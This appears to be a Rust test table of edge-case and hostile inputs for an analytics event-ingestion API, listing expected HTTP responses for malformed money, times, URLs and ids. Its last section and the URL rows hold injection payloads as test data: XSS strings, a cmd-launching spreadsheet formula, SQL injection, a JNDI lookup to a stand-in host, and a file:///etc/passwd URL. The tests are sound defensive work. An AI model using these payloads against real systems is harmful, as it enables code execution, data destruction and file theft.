//! Rows about the fields of an event: money, items, times, addresses, people.

use super::target::{Senders, event, post};
use super::{Row, row};

/// The rows.
pub(super) fn rows(senders: &Senders) -> Vec<Row> {
    let parts = [money(), items(), times(senders), addresses(), names(), people(senders), dangerous_texts()];
    parts.into_iter().flatten().collect()
}

fn money() -> Vec<Row> {
    let value = |json: &str| event(&format!(r#""value":{json}"#));
    let of = |currency: &str, json: &str| event(&format!(r#""value":{json},"currency":{currency}"#));
    vec![
        row(29, "NaN as a price", value("\"NaN\""), "400 bad_money"),
        row(29, "NaN without quotes", value("NaN"), "400 bad_json"),
        row(29, "Infinity as a price", value("\"Infinity\""), "400 bad_money"),
        row(29, "1e999", value("1e999"), "400 money_out_of_range"),
        row(30, "the largest number of 64 bits", value("9223372036854775807"), "400 money_out_of_range"),
        row(31, "what 0.1 + 0.2 makes", value("0.30000000000000004"), "400 money_too_precise"),
        row(31, "17 digits that fit", value("19.90000000000000"), "202"),
        row(301, "whole yen", of("\"JPY\"", "\"100\""), "202"),
        row(301, "yen with zeros", of("\"JPY\"", "100.00"), "202"),
        row(301, "half a yen", of("\"JPY\"", "100.5"), "400 money_too_precise"),
        row(301, "a thousandth of a dinar", of("\"KWD\"", "1.234"), "202"),
        row(301, "a ten-thousandth of a dinar", of("\"KWD\"", "1.2345"), "400 money_too_precise"),
        row(302, "a comma", value("\"1,5\""), "400 bad_money"),
        row(302, "a sign of a currency", value("\"€5\""), "400 bad_money"),
        row(302, "spaces around", value("\" 5.00 \""), "202"),
        row(302, "spaces within", value("\"1 000\""), "400 bad_money"),
        row(302, "hex", value("\"0x10\""), "400 bad_money"),
        row(302, "wide digits", value("\"５\""), "400 bad_money"),
        row(302, "Arabic digits", value("\"١٢\""), "400 bad_money"),
        row(302, "an exponent", value("1.5e2"), "202"),
        row(302, "an exponent of ten digits", value("1e9999999999"), "400 money_out_of_range"),
        row(302, "a small one", value("1e-9999999999"), "400 money_too_precise"),
        row(302, "no text at all", value("\"\""), "202"),
        row(302, "a minus", value("-1"), "400 money_negative"),
        row(302, "-0.00", value("\"-0.00\""), "202"),
        row(302, "40 zeros behind the point", value(&format!("\"1.{}\"", "0".repeat(40))), "202"),
        row(302, "100,000 digits", value(&"9".repeat(100_000)), "400 money_out_of_range"),
        row(302, "a list", value("[5]"), "400 bad_money"),
        row(303, "a currency in small letters", of("\"usd\"", "5"), "202"),
        row(303, "a currency that is none", of("\"EURO\"", "5"), "400 bad_currency"),
        row(303, "no currency at all", of("\"XXX\"", "5"), "400 bad_currency"),
        row(303, "a currency that is a number", of("978", "5"), "400 bad_text"),
        row(303, "a currency in wide letters", of("\"ＥＵＲ\"", "5"), "400 bad_currency"),
        row(303, "null for a currency", of("null", "5"), "202"),
    ]
}

fn items() -> Vec<Row> {
    let item = |fields: &str| event(&format!(r#""items":[{{"item_id":"1",{fields}}}]"#));
    let list = |json: &str| event(&format!(r#""items":{json}"#));
    let many = |count: usize| list(&format!("[{}]", vec![r#"{"item_id":"1"}"#; count].join(",")));
    vec![
        row(32, "quantity 0", item(r#""quantity":0"#), "400 bad_quantity"),
        row(32, "quantity -1", item(r#""quantity":-1"#), "400 bad_quantity"),
        row(32, "quantity 1e9", item(r#""quantity":1e9"#), "400 bad_quantity"),
        row(32, "a quantity of ten digits", item(r#""quantity":1000000000"#), "400 bad_quantity"),
        row(33, "500 items", many(500), "400 too_many_items"),
        row(33, "201 items", many(201), "400 too_many_items"),
        row(311, "200 items", many(200), "202"),
        row(312, "a quantity in quotes", item(r#""quantity":"3""#), "202"),
        row(312, "a whole quantity with decimals", item(r#""quantity":3.0"#), "202"),
        row(312, "half a quantity", item(r#""quantity":2.5"#), "400 bad_quantity"),
        row(312, "true for a quantity", item(r#""quantity":true"#), "400 bad_quantity"),
        row(312, "a quantity in words", item(r#""quantity":"hostile""#), "400 bad_quantity"),
        row(312, "null for a quantity", item(r#""quantity":null"#), "202"),
        row(313, "items that are an object", list("{}"), "400 bad_item"),
        row(313, "items that are a text", list("\"hostile\""), "400 bad_item"),
        row(313, "null for items", list("null"), "202"),
        row(313, "an item that is null", list("[null]"), "400 bad_item"),
        row(313, "an item that is a list", list("[[]]"), "400 bad_item"),
        row(313, "an item without a name", list("[{}]"), "400 bad_item"),
        row(313, "an id that is an object", list(r#"[{"item_id":{}}]"#), "400 bad_text"),
        row(313, "a price that is an object", item(r#""price":{}"#), "400 bad_money"),
        row(313, "an item's name of 10 KB", item(&format!(r#""item_name":"{}""#, "x".repeat(10_000))), "202"),
        row(313, "an item's name with a NUL", item(r#""item_name":"\u0000""#), "400 control_char"),
    ]
}

fn times(senders: &Senders) -> Vec<Row> {
    let at = |json: &str| event(&format!(r#""occurred_at":{json}"#));
    let text = |text: &str| at(&format!("\"{text}\""));
    let ago = |json: &str| event(&format!(r#""age_ms":{json}"#));
    let sent_at = |json: &str| {
        post("/v1/events", &senders.collect, format!(r#"{{"sent_at":{json},"events":[{{"name":"hostile"}}]}}"#))
    };
    vec![
        row(34, "1970", text("1970-01-01T00:00:00Z"), "202"),
        row(34, "9999", text("9999-12-31T23:59:59Z"), "202"),
        row(34, "2^63 ms", at("9223372036854775808"), "202"),
        row(34, "yesterday", text("yesterday"), "400 bad_time"),
        row(321, "an offset of 23:59", text("2026-11-22T10:00:00+23:59"), "202"),
        row(321, "an offset of 99:00", text("2026-11-22T10:00:00+99:00"), "400 bad_time"),
        row(321, "an offset with seconds", text("2026-11-22T10:00:00+01:00:30"), "202"),
        row(321, "no offset", text("2026-11-22T10:00:00"), "400 bad_time"),
        row(321, "a zone in brackets", text("2026-11-22T10:00:00+01:00[Europe/Warsaw]"), "202"),
        row(321, "a zone in brackets that is none", text("2026-11-22T10:00:00+01:00[Hostile/Zone]"), "202"),
        row(322, "a leap second", text("2016-12-31T23:59:60Z"), "202"),
        row(322, "the second after it", text("2016-12-31T23:59:61Z"), "400 bad_time"),
        row(323, "the year 0", text("0000-01-01T00:00:00Z"), "202"),
        row(323, "the year before", text("-000001-01-01T00:00:00Z"), "202"),
        row(323, "the year 10000", text("+010000-01-01T00:00:00Z"), "400 bad_time"),
        row(323, "the 30th of February", text("2026-02-30T00:00:00Z"), "400 bad_time"),
        row(323, "25 o'clock", text("2026-11-22T25:00:00Z"), "400 bad_time"),
        row(323, "24 o'clock", text("2026-11-22T24:00:00Z"), "400 bad_time"),
        row(324, "small letters", text("2026-11-22t10:00:00z"), "202"),
        row(324, "a space for the T", text("2026-11-22 10:00:00Z"), "202"),
        row(324, "wide digits", text("２０２６-11-22T10:00:00Z"), "400 bad_time"),
        row(324, "40 decimals", text(&format!("2026-11-22T10:00:00.{}Z", "1".repeat(40))), "400 bad_time"),
        row(324, "an object", at("{}"), "400 bad_time"),
        row(324, "true", at("true"), "400 bad_time"),
        row(324, "-2^63 - 1 ms", at("-9223372036854775809"), "202"),
        row(324, "1E400 ms", at("1E400"), "400 bad_time"),
        row(325, "an age in quotes", ago("\"12\""), "202"),
        row(325, "an age of -0", ago("-0"), "202"),
        row(325, "an age below 0", ago("-1"), "400 bad_time"),
        row(325, "an age of 1E300", ago("1E300"), "202"),
        row(325, "an age of 1E400", ago("1E400"), "400 bad_time"),
        row(325, "an age that is a list", ago("[1]"), "400 bad_time"),
        row(326, "sent in 9999", sent_at("\"9999-12-31T23:59:59Z\""), "202"),
        row(327, "half a sequence", event(r#""sequence":1.5"#), "400 bad_sequence"),
        row(327, "a sequence below 0", event(r#""sequence":-1"#), "400 bad_sequence"),
        row(327, "a sequence of 2^32", event(r#""sequence":4294967296"#), "400 bad_sequence"),
        row(327, "a sequence in quotes", event(r#""sequence":"7""#), "202"),
    ]
}

fn addresses() -> Vec<Row> {
    let url = |text: &str| event(&format!(r#""url":"{text}""#));
    let from = |text: &str| event(&format!(r#""referrer":"{text}""#));
    vec![
        row(37, "javascript:", url("javascript:alert(1)"), "400 bad_url"),
        row(37, "data:", url("data:text/html,hostile"), "400 bad_url"),
        row(37, "file:", url("file:///etc/passwd"), "400 bad_url"),
        row(
            38,
            "an address that tells on somebody; what is stored shows `alone`",
            url("https://shop.example/?email=a@b.example&token=hostile#hostile"),
            "202",
        ),
        row(331, "a path alone", url("/hostile"), "400 bad_url"),
        row(331, "no scheme", url("//shop.example/"), "400 bad_url"),
        row(331, "a scheme alone", url("https://"), "400 bad_url"),
        row(331, "blob:", url("blob:https://shop.example/hostile"), "400 bad_url"),
        row(331, "no text", url(""), "202"),
        row(331, "a number", event(r#""url":5"#), "400 bad_text"),
        row(332, "a user and a password", url("https://hos:tile@shop.example/"), "202"),
        row(332, "an IPv6 host", url("https://[2001:db8::1]:8443/x"), "202"),
        row(332, "an IPv6 host that does not end", url("https://[2001:db8::1/x"), "400 bad_url"),
        row(332, "an IPv4 host in hex", url("https://0x7f.1/"), "202"),
        row(332, "an IPv4 host of five numbers", url("https://1.2.3.4.5/"), "400 bad_url"),
        row(332, "punycode", url("https://xn--zakupy-4wa.example/"), "202"),
        row(332, "punycode that is none", url("https://xn--zzzzzz-.example/"), "400 bad_url"),
        row(332, "letters outside ASCII", url("https://żółw.example/"), "202"),
        row(332, "a host of 2,000 characters", url(&format!("https://{}.example/", "h".repeat(2_000))), "400 bad_url"),
        row(333, "port 0", url("https://shop.example:0/"), "202"),
        row(333, "port 65536", url("https://shop.example:65536/"), "400 bad_url"),
        row(333, "a port that is no number", url("https://shop.example:hostile/"), "400 bad_url"),
        row(334, "17 KB", url(&format!("https://shop.example/{}", "h".repeat(17_000))), "400 bad_url"),
        row(334, "10 KB", url(&format!("https://shop.example/{}", "h".repeat(10_000))), "202"),
        row(334, "a line break", url(r"https://shop.example/hos\ntile"), "202"),
        row(334, "backslashes", url(r"https:\\\\shop.example\\hostile"), "202"),
        row(334, "capitals", url("HTTPS://SHOP.EXAMPLE/"), "202"),
        row(334, "percent signs", url("https://shop.example/%zz%00%"), "202"),
        row(335, "a referrer that is none", from("hostile"), "202"),
        row(335, "a referrer of a script", from("javascript:hostile"), "202"),
        row(335, "a referrer of 100 KB", from(&format!("https://a.example/{}", "h".repeat(100_000))), "202"),
    ]
}

fn names() -> Vec<Row> {
    let id = |json: &str| event(&format!(r#""id":{json}"#));
    vec![
        row(341, "an id of 201 bytes", id(&format!("\"{}\"", "i".repeat(201))), "400 bad_id"),
        row(341, "an id without text", id("\"\""), "400 bad_id"),
        row(341, "an id with a NUL", id(r#""\u0000""#), "400 bad_id"),
        row(341, "an id that is a list", id("[1]"), "400 bad_text"),
        row(341, "an id that is a number", id("1e5"), "202"),
        row(341, "an id of nothing but zeros", id("\"00000000-0000-0000-0000-000000000000\""), "202"),
        row(342, "a touchpoint that is an object", event(r#""touchpoint":{}"#), "400 bad_text"),
        row(342, "a cart that is a list", event(r#""cart_id":[]"#), "400 bad_text"),
        row(343, "a campaign that is a list", event(r#""campaign":[]"#), "400 bad_campaign"),
        row(343, "a context that is a list", event(r#""context":[]"#), "400 bad_context"),
        row(343, "a language that is none", event(r#""language":"hostile words <>""#), "202"),
    ]
}

fn people(senders: &Senders) -> Vec<Row> {
    let trusted = |fields: &str| post("/v1/events", &senders.collect, format!(r#"{{"name":"hostile",{fields}}}"#));
    vec![
        row(351, "consent in other words", event(r#""consent":"hostile""#), "400 bad_consent"),
        row(351, "consent that is true", event(r#""consent":true"#), "400 bad_text"),
        row(352, "an address that is none, with a key", trusted(r#""ip":"hostile""#), "400 bad_ip"),
        row(352, "an address with a port, with a key", trusted(r#""ip":"192.0.2.1:80""#), "400 bad_ip"),
        row(352, "an address with a zone, with a key", trusted(r#""ip":"fe80::1%eth0""#), "400 bad_ip"),
        row(352, "an address that is none, from a browser", event(r#""ip":"hostile""#), "202"),
        row(353, "a country of three letters", trusted(r#""country":"POL""#), "400 bad_country"),
        row(353, "a country of an emoji", trusted(r#""country":"🇵🇱""#), "400 bad_country"),
        row(354, "a customer that is an e-mail address", trusted(r#""customer":"hostile@shop.example""#), "202"),
        row(354, "a customer with a NUL", trusted(r#""customer":"\u0000""#), "400 control_char"),
        row(354, "an agent that is a list", trusted(r#""user_agent":[]"#), "400 bad_text"),
    ]
}

/// Rows 39 to 41 as they come in; what becomes of them shows `alone::texts_stay_texts`.
fn dangerous_texts() -> Vec<Row> {
    let texts = |number, what, text: &str| {
        let text = serde_json::to_string(text).unwrap();
        let item = format!(r#""items":[{{"item_id":{text},"item_name":{text}}}]"#);
        row(number, what, event(&format!(r#"{item},"cart_id":{text},"properties":{{"text":{text}}}"#)), "202")
    };
    vec![
        texts(39, "a script", "<script>alert('hostile')</script>"),
        texts(39, "an image", "\"><img src=x onerror=alert('hostile')>"),
        texts(40, "a formula", "=cmd|' /C calc'!A0"),
        texts(40, "another formula", "@SUM(hostile)"),
        texts(41, "SQL", "'; DROP TABLE events;--"),
        texts(41, "a condition", "%' OR 1=1"),
        texts(41, "a look-up", "${jndi:ldap://hostile.example/a}"),
    ]
}
